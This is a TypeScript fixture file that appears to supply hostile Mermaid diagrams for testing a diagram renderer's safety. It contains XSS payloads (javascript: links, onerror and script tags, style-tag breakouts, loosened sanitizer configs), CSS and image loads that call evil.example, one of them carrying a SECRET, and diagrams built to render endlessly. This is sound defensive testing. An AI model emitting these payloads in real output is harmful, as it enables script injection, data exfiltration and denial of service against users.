import type { HostileAnswer } from './hostile-answer.ts';

const raw = String.raw;
const diagram = (tries: string, code: string): HostileAnswer => ({
  tries,
  text: `\`\`\`mermaid\n${code}\n\`\`\``,
});

/** Diagrams that would run, load or lead somewhere once they are drawn. */
export const DIAGRAMS: readonly HostileAnswer[] = [
  diagram(
    'opens pages and calls by clicks',
    'flowchart LR\nA-->B-->C-->D\nclick A href "https://evil.example/?q=SECRET" _blank\nclick B "http://evil.example/" _top\nclick C href "javascript:owned=1"\nclick D call alert(1)',
  ),
  diagram(
    'opens pages from a sequence',
    'sequenceDiagram\nparticipant A\nlink A: Board @ https://evil.example/\nlinks A: {"x": "javascript:owned=1"}\nA->>A: hi',
  ),
  diagram('calls from a class', 'classDiagram\nclass A\nlink A "javascript:owned=1"\ncallback A "alert"'),
  diagram(
    'links by a chart of times',
    'gantt\ndateFormat YYYY-MM-DD\nTask :a1, 2026-01-01, 3d\nclick a1 href "javascript:owned=1"\nclick a1 call alert(1)',
  ),
  diagram(
    'writes HTML into labels and titles',
    `---\ntitle: "<img src=http://evil.example/t.png onerror=owned=1>"\n---\nflowchart LR\naccTitle: <script>owned=1</script>\nA["<img src='http://evil.example/a.png' onerror='owned=1'>"]-->B["<svg onload=owned=1><image href=http://evil.example/b.png>"]\nC["<iframe src='http://evil.example/'></iframe><object data='http://evil.example/'></object>"]-->D["$$${raw`\href{javascript:owned=1}{x}`}$$"]`,
  ),
  diagram(
    'asks for HTML labels and no security',
    `---\nconfig:\n  htmlLabels: true\n  securityLevel: loose\n  flowchart:\n    htmlLabels: true\n---\n%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe", "link"], "ADD_ATTR": ["onerror", "onload", "href"]}, "secure": [], "maxTextSize": 9999999}}%%\nflowchart LR\nA["<img src=http://evil.example/c.png onerror=owned=1><a href='http://evil.example/'>x</a>"]-->B["<script>owned = 1</script><link rel=stylesheet href=http://evil.example/a.css>"]`,
  ),
  diagram(
    'loads by a style sheet and a theme of its own',
    `%%{init: {"themeCSS": "@import url(http://evil.example/i.css); svg, .node rect { background: url(http://evil.example/bg); fill: url(http://evil.example/f#x) }", "theme": "base", "themeVariables": {"primaryColor": "red; background: url(http://evil.example/v)", "fontFamily": "x; } * { background: url(http://evil.example/w) } .y { a: b"}, "fontFamily": "}*{background:url(http://evil.example/z)}"}}%%\nflowchart LR\nA-->B`,
  ),
  diagram(
    'loads by a class and a style',
    'flowchart LR\nA:::x-->B\nclassDef x fill:url(http://evil.example/a#b),background:url(http://evil.example/c)\nstyle B fill:#f9f,cursor:url(http://evil.example/d)\nlinkStyle 0 stroke:url(http://evil.example/g#h)',
  ),
  diagram(
    'closes the style that it is written into',
    'flowchart LR\nA:::x-->B\nclassDef x fill:red}</style><img src=http://evil.example/a.png onerror=owned=1><style>{',
  ),
  diagram(
    'loads an image as a shape',
    'flowchart LR\nA@{ img: "http://evil.example/a.png?q=SECRET", label: "x", w: 60, h: 60 }\nB@{ icon: "evil:icon", form: "square" }',
  ),
  diagram(
    'loads a picture of a person',
    'C4Context\nPerson(a, "A", "x", $sprite="http://evil.example/a.png", $link="http://evil.example/")',
  ),
];

const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** Diagrams that are never done. */
export const ENDLESS_DIAGRAMS: readonly HostileAnswer[] = [
  diagram('counts the bits of a packet without end', 'packet-beta\n0-99999999999: "x"'),
  diagram(
    'ties everything to everything',
    `flowchart LR\n${lines(17, (from) => lines(17, (to) => `A${from}-->A${to}`))}`,
  ),
  diagram('leaves room for a billion blocks', 'block-beta\ncolumns 3\nspace:1000000000 a'),
  diagram(
    'has eight hundred people talk',
    `sequenceDiagram\n${lines(800, (index) => `participant P${index}`)}`,
  ),
];
